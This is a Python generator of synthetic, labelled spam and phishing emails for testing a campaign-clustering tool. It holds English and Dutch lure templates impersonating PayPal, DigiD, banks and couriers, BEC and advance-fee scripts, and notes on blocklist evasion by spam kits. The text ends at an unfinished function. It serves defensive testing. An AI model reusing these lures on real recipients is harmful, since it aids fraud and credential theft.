#!/usr/bin/env python3
"""Labelled synthetic spamtrap traffic: campaigns mixed with one-off noise, for measuring how well
spamhattan groups messages into campaigns (issue 4, Quality: pairwise precision/recall ≥ 0.95).

    python3 tests/tools/campaign_gen.py OUTDIR --campaigns 30 --per-campaign 5..60 --noise 300 --seed 1
    python3 tests/tools/campaign_gen.py --self-test

As a library (bench/campaign_quality.py, tests/e2e/test_campaign_quality.py):
`generate(campaigns, (lo, hi), noise, seed) -> Corpus` (messages in arrival order, each with
name, label, raw bytes and sha256; campaign specs by label) and `write(outdir, corpus)`.

Writes OUTDIR/NNNNNN.eml (RFC 5322, CRLF line endings) in arrival order, and OUTDIR/labels.csv
(`file,label`): campaign messages are labelled `c001`, `c002`...; every noise message gets a label
of its own (`noise-000123`), so it may only ever be a singleton. Same seed, same bytes: every
random choice comes from one `random.Random(seed)`; MIME boundaries, zip timestamps and dates are
derived from it too (the email package's own boundaries would not be reproducible).

What varies, and why (the point is to be as hard as real traffic, not harder):
- Inside a campaign, like a real kit or botnet template: per-recipient names and greeting,
  invoice/order/tracking numbers, amounts and dates; 2–4 subject variants and 2–4 variants of
  1–2 sentences; paragraph order shuffled in some messages; the URL path carries a per-message
  token on 1–3 campaign domains; the sender rotates (random local part @ several freemail or
  compromised domains); attachments are polymorphic per recipient (different bytes, same
  structure and name pattern such as `Invoice_48213.zip`); the HTML/text alternative is present
  or not; Message-IDs are random in a campaign-specific style; sending IPs come from the
  campaign's few botnet /16s; X-Mailer is one of one or two values, or absent. Some kits also
  spin words per message ({please|kindly}: breaks exact and fuzzy body hashes), add a random
  "hash buster" paragraph (pill spam), or link through a fresh compromised host per message
  (same path shape, no shared domain), as real kits do to dodge hash and URL blocklists.
  Some host their links on big shared services instead (a cloud-storage bucket, or a URL
  shortener with nothing campaign-specific in the link): those hosts are shared by many
  unrelated campaigns and lone lookalikes, the false-merge trap seen in real corpora.
- Between campaigns, the confusions a clusterer must resist: the kind list cycles so that
  several campaigns impersonate the same brand with different kits (two PayPal kits, two
  parcel lures...), subjects are drawn from shared generic pools ("Invoice", "Payment
  confirmation"), freemail sender domains are shared, every kit also links the brand's real
  domains (paypal.com, microsoft.com logos and footers), botnet /16s come from one shared pool,
  and several malspam campaigns send the same attachment kind (zip with js) under different
  templates and names. Stock phrases are shared between campaigns of one kind (kits copy each
  other), but each campaign also has sentences of its own.
- Noise: one-off spam on random topics (grammar-built "Markov-ish" text from word lists),
  newsletters and legitimate-looking mails, each with its own sender domain and text, so no two
  noise messages form a cluster; 15% are lone lookalikes of a campaign kind (a one-off PayPal
  phish or invoice mail with the stock phrases, brands and generic subjects of the kits, but its
  own wording and domains): the noise most likely to be merged into a campaign by mistake.

Everything is fake: domains of the campaigns are made up, attachments are structurally valid
but inert (zip files built with zipfile, OLE/LNK/ISO magic plus random filler); nothing is ever
sent or executed. Python 3.11 standard library only.
"""
from __future__ import annotations

import argparse
import base64
import csv
import datetime as dt
import hashlib
import io
import os
import quopri
import random
import re
import sys
import time
import zipfile
from dataclasses import dataclass, field

# Longest line sent as 7bit; longer text goes quoted-printable (RFC 5322 limit is 998).
MAX_7BIT_LINE = 900

# --- vocabulary ------------------------------------------------------------------------------

TRAP_DOMAINS = ["trap.example", "nl-trap.example", "spamtrap.example", "mx.wild.example"]
FREEMAIL = ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "aol.com", "mail.ru",
            "yandex.ru", "gmx.de", "web.de", "hetnet.nl", "ziggo.nl", "libero.it"]
FIRST = ["Jan", "Pieter", "Sanne", "Emma", "Daan", "Lotte", "Joost", "Anouk", "Willem", "Femke",
         "John", "Mary", "David", "Sarah", "Michael", "Laura", "Thomas", "Anna", "Peter", "Linda",
         "Robert", "Karin", "Mark", "Ingrid", "Hans", "Marieke", "Kees", "Esther", "Bas", "Julia"]
LAST = ["de Vries", "Jansen", "Bakker", "Visser", "Smit", "Meijer", "de Boer", "Mulder",
        "de Groot", "Bos", "Vos", "Peters", "Hendriks", "van Dijk", "Dekker", "Brouwer",
        "Smith", "Johnson", "Brown", "Miller", "Wilson", "Taylor", "Clark", "Walker", "Young"]
ROLES = ["info", "sales", "admin", "office", "contact", "billing", "support", "hr", "finance"]
COMPANIES = ["Northwind Traders", "Contoso Ltd", "Fabrikam Inc", "Tailspin Logistics",
             "Van der Berg Installatietechniek BV", "Globex Supplies", "Initech GmbH",
             "Bakkerij De Molen", "Alpha Dental Care", "Hooli Services", "Stark Freight",
             "Wayne Components", "Umbrella Medical", "Acme Packaging", "Zuidas Advies BV"]
JOB_TITLES = ["Accounts Receivable", "Finance Department", "Accounting Manager",
              "Sales Administration", "Credit Control", "Billing Team", "Office Manager"]
DOMAIN_WORDS = ["secure", "account", "verify", "update", "login", "support", "service",
                "online", "portal", "center", "help", "web", "mail", "cloud", "auth", "client",
                "billing", "pay", "track", "parcel", "delivery", "express", "shop", "med",
                "health", "deal", "store", "best", "data", "info", "my", "app", "safe",
                "protect", "alert", "notice", "global", "direct", "smart", "easy", "fast",
                "prime", "net", "hub", "zone", "box", "link", "go", "pro", "plus"]
TLDS = ["com", "net", "top", "xyz", "info", "online", "site", "club", "shop", "icu", "ru",
        "nl", "eu", "co", "live", "app", "biz", "work", "buzz", "cfd"]
ISPS = ["telkom", "vnpt", "ttnet", "vivo", "claro", "airtel", "bsnl", "chinanet", "kpn-dsl",
        "orange", "tmobile", "comcast", "rostelecom", "etisalat", "pldt", "megacable"]
# Public-looking /16 prefixes the botnets draw from; campaigns share this pool (infrastructure
# overlap between unrelated campaigns is normal: rented botnets and bulletproof hosters).
BOTNET_NETS = [(a, b) for a in (31, 37, 41, 45, 77, 78, 85, 91, 103, 109, 176, 177, 186, 190,
                                196, 200) for b in (12, 57, 133, 201)]
X_MAILERS = ["Microsoft Outlook 16.0", "PHPMailer 6.1.4 (https://github.com/PHPMailer/PHPMailer)",
             "Microsoft Office Outlook 12.0", "Foxmail 7.2.20.269[cn]", "Apple Mail (2.3445.104.11)",
             "Mozilla Thunderbird 91.4.0", "The Bat! (v9.1.18) Professional",
             "Zimbra 8.8.15_GA_3953", "iPhone Mail (19B74)", "SendBlaster 4.4.3"]

# Big real domains every kit also links (logos, footers): shared between campaigns on purpose.
BRANDS = {
    "paypal": ("PayPal", ["paypal.com", "paypalobjects.com"]),
    "microsoft": ("Microsoft 365", ["microsoft.com", "office.com", "live.com"]),
    "webmail": ("Webmail", ["microsoft.com", "google.com"]),
    "ing": ("ING", ["ing.nl"]),
    "rabobank": ("Rabobank", ["rabobank.nl"]),
    "abnamro": ("ABN AMRO", ["abnamro.nl"]),
    "dhl": ("DHL Express", ["dhl.com"]),
    "postnl": ("PostNL", ["postnl.nl"]),
    "ups": ("UPS", ["ups.com"]),
    "netflix": ("Netflix", ["netflix.com"]),
    "apple": ("Apple", ["apple.com", "icloud.com"]),
    "digid": ("DigiD", ["digid.nl", "logius.nl"]),
    "belastingdienst": ("Belastingdienst", ["belastingdienst.nl"]),
}

# Campaign kinds in the order they are handed out (campaign i gets KIND_CYCLE[i % len]): the
# cycle repeats brands and attachment kinds so that 30 campaigns hold the hard confusions.
KIND_CYCLE = [
    ("invoice", "zip-js"), ("phish", "paypal"), ("dutch", "pakket"), ("scam", "advance-fee"),
    ("pharma", "pharma"), ("invoice", "office"), ("phish", "paypal"), ("dutch", "digid"),
    ("phish", "microsoft"), ("invoice", "zip-js"), ("pharma", "marketing"), ("dutch", "betaling"),
    ("phish", "parcel"), ("invoice", "iso"), ("scam", "bec"), ("dutch", "factuur"),
    ("phish", "webmail"), ("invoice", "zip-vbs"), ("phish", "bank"), ("invoice", "zip-lnk"),
    ("pharma", "pharma"), ("dutch", "pakket"), ("phish", "apple"), ("invoice", "zip-js"),
    ("scam", "advance-fee"), ("phish", "netflix"), ("dutch", "betaling"), ("invoice", "office"),
    ("pharma", "marketing"), ("phish", "paypal"),
]

# --- text banks (placeholders filled per message) ------------------------------------------
# Each kind has slots; a campaign picks one phrase per slot (its template) and, for 1–2 slots,
# 2–4 alternatives rotated per message. Kits of one kind share these stock phrases.

INVOICE = {
    "subject": ["Invoice {inv}", "Invoice", "Payment confirmation", "RE: Invoice {inv} overdue",
                "Outstanding invoice #{inv}", "Your invoice from {company}", "Payment Advice - {inv}",
                "Remittance advice {date}", "Statement of account", "Order confirmation {inv}",
                "Fw: unpaid invoice", "Invoice {inv} from {company}", "New invoice available",
                "Payment confirmation {inv}", "Overdue payment reminder"],
    "greeting": ["Dear {name},", "Hello {first},", "Hi {first},", "Good morning {first},",
                 "Dear {first},", "Hello {name},"],
    "opener": ["Please find attached invoice {inv} for {amount}.",
               "Attached is the invoice {inv} dated {date}.",
               "Kindly see the attached invoice for the services delivered last month.",
               "We have not yet received payment for invoice {inv} ({amount}).",
               "As requested, the payment confirmation for {amount} is attached.",
               "Our records show an outstanding balance of {amount} on your account.",
               "Thank you for your order {inv}; the invoice is attached to this email.",
               "Your payment of {amount} has been processed, see the attached advice."],
    "detail": ["The due date for this invoice is {date}.",
               "Payment terms are {days} days net from the invoice date.",
               "Please review the document and confirm receipt.",
               "If you have already paid, please disregard this message.",
               "The amount will be debited on {date} unless you object.",
               "Note that a late fee applies to payments received after {date}.",
               "The bank details have changed, the new details are in the document.",
               "This invoice covers the period ending {date}."],
    "action": ["Open the attached file to view the details.",
               "Kindly process the payment at your earliest convenience.",
               "Please check the attachment and let us know if anything is unclear.",
               "Download the attachment and print it for your records.",
               "Review the attached statement and reply with your remittance."],
    "closing": ["Best regards,", "Kind regards,", "Thank you,", "Regards,", "Sincerely,",
                "Many thanks,"],
}

PHISH = {
    "account": {
        "subject": ["Your account has been limited", "Action required: verify your {brand} account",
                    "Unusual sign-in activity", "Your {brand} account is on hold",
                    "Payment confirmation", "Security alert", "Confirm your identity",
                    "[{brand}] Important notice regarding your account",
                    "We noticed a new login to your account", "Your account will be suspended",
                    "Case ID {inv}: account review"],
        "opener": ["We recently noticed unusual activity on your {brand} account.",
                   "Your account access has been limited because we could not verify your details.",
                   "A payment of {amount} was sent from your account on {date}.",
                   "Someone tried to sign in to your account from a new device.",
                   "As part of our security measures we regularly review account activity.",
                   "We were unable to process your last payment of {amount}."],
        "detail": ["Until you confirm your information, some features will not be available.",
                   "If you do not recognise this activity, your account may be compromised.",
                   "Your case number is {inv}; keep it for your reference.",
                   "Failure to confirm within {days} days will result in permanent suspension.",
                   "For your protection we have temporarily restricted sending and withdrawing.",
                   "The request came from an unknown device near {city}."],
        "action": ["Confirm your information", "Verify now", "Log in to resolve", "Review activity",
                   "Restore access", "Secure my account"],
    },
    "parcel": {
        "subject": ["Your package {track} is waiting", "We couldn't deliver your parcel",
                    "Delivery attempt failed", "Shipment {track}: action required",
                    "Your parcel is on hold", "Customs fee required for {track}",
                    "Track your shipment {track}"],
        "opener": ["We tried to deliver your parcel {track} on {date} but nobody was home.",
                   "Your shipment {track} is held at our depot due to an unpaid fee of {amount}.",
                   "A package addressed to you could not be delivered because the address is incomplete.",
                   "Your order has arrived at our sorting centre and awaits confirmation."],
        "detail": ["The parcel will be returned to the sender after {days} days.",
                   "A handling fee of {amount} must be paid before redelivery.",
                   "Please confirm your address to schedule a new delivery.",
                   "Tracking number: {track}."],
        "action": ["Schedule delivery", "Pay the fee", "Track my parcel", "Confirm address"],
    },
    "webmail": {
        "subject": ["Mailbox storage full", "Password expires today", "Your mailbox is almost full",
                    "Action required: email verification", "Undelivered messages ({days})",
                    "Security alert", "Mail quota exceeded"],
        "opener": ["Your mailbox {email} has exceeded its storage limit.",
                   "The password for {email} expires today.",
                   "{days} incoming messages were held because your mailbox needs verification.",
                   "We are upgrading all email accounts to the new security standard."],
        "detail": ["Messages sent to you will be rejected until you act.",
                   "Keep your current password to avoid losing access.",
                   "This is an automated message from the mail administrator.",
                   "Accounts that are not verified within 24 hours will be deactivated."],
        "action": ["Keep current password", "Verify mailbox", "Release messages", "Upgrade now"],
    },
}

SCAM = {
    "advance-fee": {
        "subject": ["URGENT REPLY NEEDED", "Business proposal", "Dear Friend", "Inheritance claim",
                    "Compensation payment {inv}", "Confidential", "Donation for you",
                    "Attention beneficiary"],
        "sentences": [
            "I am {sender_name}, a senior partner at a law firm in {city}.",
            "My late client died without a next of kin and left a deposit of {big_amount}.",
            "I seek your consent to present you as the beneficiary of this fund.",
            "The transaction is risk free and will be concluded within {days} working days.",
            "You will receive forty percent of the total sum for your assistance.",
            "Kindly send me your full name, address and telephone number.",
            "The United Nations compensation committee has approved a payment of {big_amount} to you.",
            "Your email address was selected in our annual international lottery draw.",
            "I have decided to donate {big_amount} to charity through you.",
            "Please treat this matter as strictly confidential.",
            "Contact me on my private email for further details.",
            "This fund has been dormant in the bank for many years.",
            "The bank has asked me to provide a foreign partner before the end of the year.",
        ],
        "closing": ["Yours faithfully,", "God bless you,", "Best regards,", "Respectfully,"],
    },
    "bec": {
        "subject": ["Request", "Are you available?", "Urgent task", "Quick favour",
                    "Wire transfer", "Payment today", "Confidential request"],
        "sentences": [
            "Are you at your desk right now? I need you to handle a payment for me.",
            "I am in a meeting and can only reply by email.",
            "We have to settle an outstanding invoice of {amount} with a new supplier today.",
            "Please let me know how soon you can process a transfer.",
            "I will send you the beneficiary details once you confirm.",
            "Keep this between us until the acquisition is announced.",
            "I also need you to buy some gift cards for a client, can you do that?",
            "Reply with your availability and I will explain.",
        ],
        "closing": ["Sent from my iPhone", "Thanks,", "Regards,", "Best,"],
    },
}

PHARMA = {
    "pharma": {
        "subject": ["Cheap meds without prescription", "Save 80% on your pills",
                    "Best price for {product}", "{product} - discreet delivery", "Men's health offer",
                    "Your order discount inside", "Special offer ending today"],
        "products": ["Viagra", "Cialis", "Levitra", "Tramadol", "Xanax", "Phentermine"],
        "sentences": ["Buy {product} online at the lowest prices on the internet.",
                      "No prescription needed, worldwide discreet shipping.",
                      "Orders over {amount} ship free of charge.",
                      "Licensed pharmacy, 100% satisfaction guaranteed.",
                      "Bonus pills with every order this week.",
                      "Save up to 80% compared to your local drugstore."],
    },
    "marketing": {
        "subject": ["Lose 10kg in two weeks", "This crypto bot earns {amount} a day",
                    "Exclusive casino bonus for you", "Ray-Ban sale: 85% off", "You have been selected",
                    "Last chance: {product} at half price", "Work from home and earn {amount}"],
        "products": ["KetoSlim", "CryptoPro AI", "Royal Vegas", "Ray-Ban Aviator", "SmartWatch X9",
                     "Bitcoin Evolution"],
        "sentences": ["Thousands of people already use {product} every day.",
                      "Doctors hate this simple trick.",
                      "Sign up today and get a bonus of {amount}.",
                      "Limited stock, the offer ends on {date}.",
                      "As seen on TV and in all major newspapers.",
                      "No experience needed, start in five minutes."],
    },
}

DUTCH = {
    "factuur": {
        "subject": ["Factuur {inv}", "Uw factuur van {company}", "Betalingsherinnering factuur {inv}",
                    "Openstaande factuur", "Herinnering: factuur {inv} vervalt", "Factuur"],
        "opener": ["In de bijlage vindt u factuur {inv} van {amount}.",
                   "Volgens onze administratie staat factuur {inv} nog open.",
                   "Hierbij ontvangt u de factuur voor de geleverde diensten.",
                   "Wij hebben uw betaling van {amount} nog niet ontvangen."],
        "detail": ["De vervaldatum is {date}.", "Bij te late betaling worden incassokosten berekend.",
                   "Heeft u al betaald, dan kunt u deze e-mail als niet verzonden beschouwen.",
                   "Het bedrag wordt op {date} automatisch afgeschreven."],
        "action": ["Bekijk factuur", "Factuur downloaden", "Direct betalen"],
    },
    "betaling": {
        "subject": ["Uw betaling is mislukt", "Actie vereist: bevestig uw gegevens",
                    "Belangrijk bericht over uw rekening", "Uw betaalpas verloopt",
                    "Betaling van {amount} geweigerd", "Verificatie vereist"],
        "opener": ["Uw laatste betaling van {amount} kon niet worden verwerkt.",
                   "Uw betaalpas verloopt binnenkort en moet worden vervangen.",
                   "Wij hebben ongebruikelijke activiteit op uw rekening vastgesteld.",
                   "Vanaf {date} gelden nieuwe veiligheidsvoorschriften voor internetbankieren."],
        "detail": ["Bevestig uw gegevens binnen {days} dagen om blokkering te voorkomen.",
                   "Uw rekening is tijdelijk beperkt.",
                   "Dit is een automatisch bericht, u kunt hier niet op reageren.",
                   "Uw referentienummer is {inv}."],
        "action": ["Gegevens bevestigen", "Nu verifiëren", "Inloggen", "Pas aanvragen"],
    },
    "pakket": {
        "subject": ["Uw pakket {track} kon niet worden bezorgd", "Uw pakket ligt klaar",
                    "Bezorging mislukt", "Invoerrechten verschuldigd voor zending {track}",
                    "Track & Trace: {track}", "Actie vereist voor uw zending"],
        "opener": ["Wij hebben op {date} geprobeerd uw pakket {track} te bezorgen.",
                   "Uw zending {track} wordt vastgehouden wegens openstaande invoerrechten van {amount}.",
                   "Uw pakket kon niet worden bezorgd omdat het adres onvolledig is.",
                   "Uw bestelling ligt klaar in ons sorteercentrum."],
        "detail": ["Na {days} dagen wordt het pakket teruggestuurd naar de afzender.",
                   "De verzendkosten bedragen {amount}.",
                   "Plan een nieuwe bezorging via de onderstaande knop.",
                   "Uw Track & Trace code is {track}."],
        "action": ["Bezorging plannen", "Betaal nu", "Volg uw pakket", "Adres bevestigen"],
    },
    "digid": {
        "subject": ["Uw DigiD verloopt", "DigiD: actie vereist", "Uw DigiD-account wordt gedeactiveerd",
                    "Nieuwe DigiD-app verplicht", "Belangrijk bericht van DigiD",
                    "Teruggave {amount} beschikbaar"],
        "opener": ["Uw DigiD is al lange tijd niet gebruikt en verloopt op {date}.",
                   "Vanaf {date} is de nieuwe DigiD-app verplicht voor alle burgers.",
                   "Er staat een teruggave van {amount} voor u klaar bij de Belastingdienst.",
                   "Wij hebben uw gegevens niet kunnen controleren."],
        "detail": ["Zonder geldige DigiD kunt u niet meer inloggen bij de overheid.",
                   "Verlengen is gratis en duurt maar twee minuten.",
                   "Uw aanvraagnummer is {inv}.",
                   "Na {days} dagen moet u een nieuwe DigiD aanvragen per post."],
        "action": ["DigiD verlengen", "Inloggen met DigiD", "Teruggave aanvragen", "Activeren"],
    },
}
DUTCH_GREETING = ["Beste {name},", "Geachte heer/mevrouw {last},", "Hallo {first},",
                  "Beste klant,", "Geachte {name},"]
DUTCH_CLOSING = ["Met vriendelijke groet,", "Met vriendelijke groeten,", "Hoogachtend,",
                 "Vriendelijke groet,"]
DUTCH_BRAND = {"factuur": None, "betaling": ["ing", "rabobank", "abnamro"],
               "pakket": ["postnl", "dhl"], "digid": ["digid", "belastingdienst"]}
CITIES = ["Lagos", "London", "Amsterdam", "Madrid", "Dubai", "Accra", "Johannesburg",
          "Istanbul", "Kuala Lumpur", "Bucharest", "Rotterdam", "Utrecht"]

# Word classes of the sentence grammar (noise text and each campaign's own sentences).
ADJ = ["quick", "new", "old", "bright", "quiet", "modern", "local", "global", "simple", "unique",
       "daily", "secret", "green", "golden", "smart", "little", "famous", "private", "digital",
       "natural", "seasonal", "rare", "classic", "fresh", "strange", "weekly", "hidden", "best",
       "official", "friendly", "personal", "premium", "ancient", "urban", "tiny", "massive"]
NOUN = ["garden", "report", "team", "recipe", "market", "holiday", "camera", "bicycle", "office",
        "river", "project", "meeting", "kitchen", "library", "concert", "invoice", "harbour",
        "village", "engine", "window", "question", "solution", "customer", "student", "museum",
        "festival", "journey", "device", "strategy", "neighbour", "island", "painting", "course",
        "schedule", "collection", "workshop", "podcast", "article", "forecast", "membership",
        "warehouse", "platform", "guide", "update", "season", "volunteer", "restaurant", "plant",
        "album", "portfolio", "vacancy", "webinar", "ticket", "backpack", "lamp", "harvest"]
VERB = ["discovers", "improves", "explains", "reviews", "organises", "shares", "builds",
        "changes", "celebrates", "follows", "announces", "prepares", "finds", "visits",
        "compares", "recommends", "supports", "delivers", "welcomes", "tests", "opens", "plans",
        "remembers", "collects", "describes", "cancels", "extends", "repairs", "measures"]
ADV = ["quickly", "finally", "carefully", "again", "today", "together", "recently", "often",
       "gladly", "soon", "quietly", "openly", "already", "proudly", "slowly"]
PREP = ["near", "behind", "with", "without", "for", "after", "before", "around", "inside",
        "beyond", "under", "during"]
TOPIC_OPENERS = ["Did you know", "We are happy to announce", "Good news", "Reminder",
                 "In this issue", "Quick question", "Hello there", "Last week", "Update",
                 "Thank you for joining", "Save the date", "Just a note"]

# A kit's own sentences: subject + verb + object (+ tail) per topic, about 2,000 combinations
# each, so two campaigns of one kind rarely share one while staying on topic and in language.
KIT_PARTS = {
    "invoice": (["Our accounting department", "The finance team", "Our billing system",
                 "The undersigned", "Our office in {city}", "The project manager",
                 "Our new ERP system", "The credit control desk"],
                ["has issued", "has prepared", "has re-sent", "has updated", "has approved",
                 "has flagged", "has generated", "has attached"],
                ["the document for the last delivery", "a corrected statement for your records",
                 "the outstanding items for this quarter", "the remittance for the agreed services",
                 "a copy of the signed purchase order", "the balance as of this week",
                 "the final notice for this account", "the credit note you asked for"],
                ["", " as discussed on the phone", " after our last conversation",
                 " following the audit", " per the contract terms", " without further delay"]),
    "account": (["Our security team", "The {brand} resolution center", "Our automated system",
                 "The fraud prevention unit", "Customer protection", "Our risk department",
                 "The account services team", "Our compliance office"],
                ["has detected", "has temporarily blocked", "needs to confirm", "has reviewed",
                 "could not validate", "has put on hold", "has limited", "is investigating"],
                ["a recent transaction on your profile", "the billing address on file",
                 "your linked card ending in {card}", "a login from an unrecognised browser",
                 "the information in your wallet", "your recent payment settings",
                 "several failed password attempts", "the ownership of this account"],
                ["", " for your safety", " as required by regulations", " within the last 24 hours",
                 " to prevent unauthorised use", " until further notice"]),
    "parcel": (["Our courier", "The local depot", "Our delivery partner", "The customs office",
                "The sorting centre in {city}", "Our driver", "The logistics team", "Our hub"],
               ["could not hand over", "is still holding", "has rescheduled", "has registered",
                "was unable to scan", "has returned", "needs payment for", "has weighed"],
               ["your shipment from the international warehouse", "the parcel with the reference above",
                "the package that was ordered online", "a small box addressed to you",
                "the item you are waiting for", "your express consignment",
                "the letter-box parcel", "the goods in your order"],
               ["", " this morning", " due to a missing house number", " because of an unpaid duty",
                " after two attempts", " as per the new regulations"]),
    "webmail": (["The mail server", "Your IT helpdesk", "The administrator", "Our mail system",
                 "The security gateway", "Microsoft Exchange", "The quarantine service",
                 "Our spam filter"],
                ["has suspended", "has paused", "has quarantined", "will delete",
                 "is holding back", "has marked", "will disconnect", "cannot synchronise"],
                ["your pending incoming mail", "all messages older than 30 days",
                 "your mailbox configuration", "the old login credentials",
                 "the attachments you received today", "messages from external senders",
                 "the mobile sync of this mailbox", "the shared folders of your account"],
                ["", " tonight at 23:59", " after the scheduled maintenance",
                 " unless you confirm ownership", " due to a storage limit", " automatically"]),
    "scam": (["My family", "The board of directors", "My lawyer", "The foundation",
              "Our bank manager", "The late engineer", "My husband before he died", "The committee"],
             ["has entrusted me with", "wishes to transfer", "has kept", "has approved",
              "has instructed me to release", "has placed", "cannot claim", "has reserved"],
             ["the funds in a security company", "a large sum in a suspense account",
              "the proceeds of a crude oil contract", "the gold consignment in storage",
              "the remaining balance of the estate", "the compensation for foreign partners",
              "a portion of the inheritance", "the documents for the transfer"],
             ["", " in {city}", " for the benefit of the less privileged", " without delay",
              " under strict secrecy", " before the end of this month"]),
    "bec": (["The board", "Our auditor", "The supplier", "Legal", "The CFO", "My assistant",
             "The bank", "Our partner in {city}"],
            ["has asked me to settle", "is waiting for", "needs confirmation of", "must not hear about",
             "has approved", "has chased us about", "will close", "expects"],
            ["the payment before the cut-off time", "the new account details", "the transfer today",
             "this confidential deal", "the vouchers for the client event", "the overdue balance",
             "the wire this afternoon", "a quick response from you"],
            ["", " so please be discreet", " before 3 pm", " while I am travelling",
             " as a matter of urgency", " today"]),
    "pharma": (["Our pharmacy", "Our online store", "The {product} team", "Our warehouse",
                "Our customer service", "The partner clinic", "Our certified suppliers",
                "Our happy customers"],
               ["now offers", "ships", "recommends", "guarantees", "has reduced the price of",
                "delivers", "has restocked", "loves"],
               ["the original brand products", "generic alternatives in every strength",
                "a free consultation with every order", "fast tracked international delivery",
                "our best selling packs", "discreet packaging without labels",
                "the full range of lifestyle products", "trial packs for new clients"],
               ["", " in 24 hours", " at wholesale prices", " all year round",
                " with a money back promise", " to over 100 countries"]),
    "nl": (["Onze klantenservice", "Het beveiligingsteam", "Ons systeem", "De afdeling administratie",
            "Onze bezorger", "Het incassobureau", "De servicedesk", "Onze afdeling fraudepreventie"],
           ["uw gegevens", "de betaling", "uw zending", "het openstaande bedrag", "uw rekening",
            "de aanvraag", "het adres", "de machtiging"],
           ["gecontroleerd", "geblokkeerd", "tijdelijk opgeschort", "niet kunnen verwerken",
            "opnieuw ingepland", "in behandeling genomen", "geregistreerd", "afgewezen"],
           ["", " in verband met nieuwe regelgeving", " op verzoek van uw bank", " na een controle",
            " wegens een technische storing", " om veiligheidsredenen"]),
}


def kit_sentence(rng: random.Random, family: str) -> str:
    a, b, c, d = (rng.choice(part) for part in KIT_PARTS[family])
    if family == "nl":
        return f"{a} heeft {b} {c}{d}."
    return f"{a} {b} {c}{d}."


# Spintax: kits rewrite words per message ({please|kindly}) to break exact and fuzzy hashes.
SYNONYMS = {
    "en": [["please", "kindly"], ["account", "profile"], ["verify", "confirm", "validate"],
           ["information", "details"], ["attached", "enclosed"], ["review", "check"],
           ["immediately", "promptly"], ["parcel", "package", "shipment"],
           ["suspended", "blocked", "restricted"], ["recently", "lately"],
           ["unusual", "suspicious", "irregular"], ["message", "email", "notification"],
           ["customer", "client"], ["funds", "money"], ["order", "purchase"],
           ["document", "file"], ["today", "now"], ["team", "department"]],
    "nl": [["gegevens", "informatie"], ["direct", "onmiddellijk", "meteen"], ["pakket", "zending"],
           ["bevestig", "verifieer"], ["rekening", "bankrekening"], ["klant", "cliënt"],
           ["bedrag", "totaalbedrag"], ["automatisch", "vanzelf"]],
}
SPIN_PATTERNS = {lang: [(re.compile(r"\b(" + "|".join(group) + r")\b", re.IGNORECASE), group)
                        for group in groups] for lang, groups in SYNONYMS.items()}
# Hosts of compromised sites some kits link through (a fresh one per message, same path shape).
SHORTENERS = ["bit.ly", "is.gd", "t.co", "tinyurl.com", "cutt.ly"]
COMPROMISED_TLDS = ["com", "org", "net", "com.br", "co.za", "in", "it", "pl", "de", "com.au", "es"]


def spin(rng: random.Random, text: str, lang: str) -> str:
    """Replaces each synonym-group word by a random member, keeping a leading capital."""
    def pick(m, group):
        word = rng.choice(group)
        return word[0].upper() + word[1:] if m.group(1)[0].isupper() else word
    for pattern, group in SPIN_PATTERNS[lang]:
        text = pattern.sub(lambda m, g=group: pick(m, g), text)
    return text


def hosted_link(rng: random.Random, c) -> str:
    """A link on a big shared service: cloud storage (the campaign's bucket in the path) or a
    shortener (nothing campaign-specific at all). Many unrelated campaigns share these hosts."""
    if c.hosting == "gcs":
        return f"https://storage.googleapis.com/{c.bucket}/index.html#{token(rng, 12)}"
    if c.hosting == "firebase":
        return (f"https://firebasestorage.googleapis.com/v0/b/{c.bucket}.appspot.com/o/"
                f"{token(rng, 10)}.html?alt=media")
    return f"https://{rng.choice(SHORTENERS)}/{token(rng, 7)}"


def compromised_host(rng: random.Random) -> str:
    words = rng.sample(NOUN + ADJ, 2)
    return (rng.choice(["", "www."]) + "".join(words) + (digits(rng, 2) if rng.random() < 0.3 else "")
            + "." + rng.choice(COMPROMISED_TLDS))


# Share of noise messages that are lone lookalikes of a campaign kind: one-off phish and malspam
# are common in real traps and are the noise most likely to be merged into a campaign.
LOOKALIKE_SHARE = 0.15

TRACK_STYLES = ["3S{letters4}{digits9}", "JD01460000{digits8}", "1Z{letters3}{digits12}",
                "CX{digits9}NL", "LP{digits11}"]


# --- small helpers ---------------------------------------------------------------------------

def fill(template: str, values: dict) -> str:
    """str.format that leaves unknown placeholders as they are (kits have typos too)."""
    class Keep(dict):
        def __missing__(self, key):
            return "{" + key + "}"
    return template.format_map(Keep(values))


def sentence(rng: random.Random) -> str:
    """One grammar-built sentence: with ~50k nouns×adjectives×verbs combinations, two random
    texts share almost no word 3-shingles, which is what makes noise non-clustering."""
    a = f"the {rng.choice(ADJ)} {rng.choice(NOUN)}"
    b = f"{rng.choice(['a', 'the', 'our', 'your', 'every'])} {rng.choice(ADJ)} {rng.choice(NOUN)}"
    form = rng.randrange(5)
    if form == 0:
        s = f"{a} {rng.choice(VERB)} {b} {rng.choice(PREP)} the {rng.choice(NOUN)}"
    elif form == 1:
        s = f"{a} {rng.choice(ADV)} {rng.choice(VERB)} {b}"
    elif form == 2:
        s = f"{rng.choice(PREP)} the {rng.choice(NOUN)}, {a} {rng.choice(VERB)} {b}"
    elif form == 3:
        s = f"{b} {rng.choice(VERB)} {a} and {rng.choice(VERB)} the {rng.choice(NOUN)}"
    else:
        s = f"why {a} {rng.choice(VERB)} {b} {rng.choice(ADV)}"
    return s[0].upper() + s[1:] + rng.choice([".", ".", ".", "!", "?"])


def paragraph(rng: random.Random, lo: int = 2, hi: int = 4) -> str:
    return " ".join(sentence(rng) for _ in range(rng.randint(lo, hi)))


def digits(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789") for _ in range(n))


def letters(rng: random.Random, n: int, alphabet="ABCDEFGHJKLMNPQRSTUVWXYZ") -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def token(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")
                   for _ in range(n))


def made_up_domain(rng: random.Random, used: set, prefix: str = "") -> str:
    """A fresh domain no other campaign or noise message uses."""
    while True:
        words = rng.sample(DOMAIN_WORDS, rng.randint(1, 2))
        if prefix:
            words.insert(0, prefix)
        sep = rng.choice(["-", "", "-"])
        name = sep.join(words) + (digits(rng, rng.randint(1, 3)) if rng.random() < 0.3 else "")
        domain = f"{name}.{rng.choice(TLDS)}"
        if domain not in used:
            used.add(domain)
            return domain


def encode_header(value: str) -> str:
    """RFC 2047 B-encoding for non-ASCII header values; ASCII stays readable."""
